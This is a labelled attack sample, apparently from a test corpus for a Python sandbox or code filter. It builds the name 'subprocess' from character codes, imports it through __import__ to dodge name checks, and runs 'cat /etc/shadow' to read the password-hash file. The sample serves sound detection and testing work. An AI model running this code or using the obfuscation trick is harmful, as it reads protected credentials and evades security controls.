# attack-class: 2
# title: __import__ with a name built by chr()
# why: reaches subprocess through a list of code points

name = "".join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))
sp = __import__(name)
sp.call("cat /etc/shadow", shell=True)
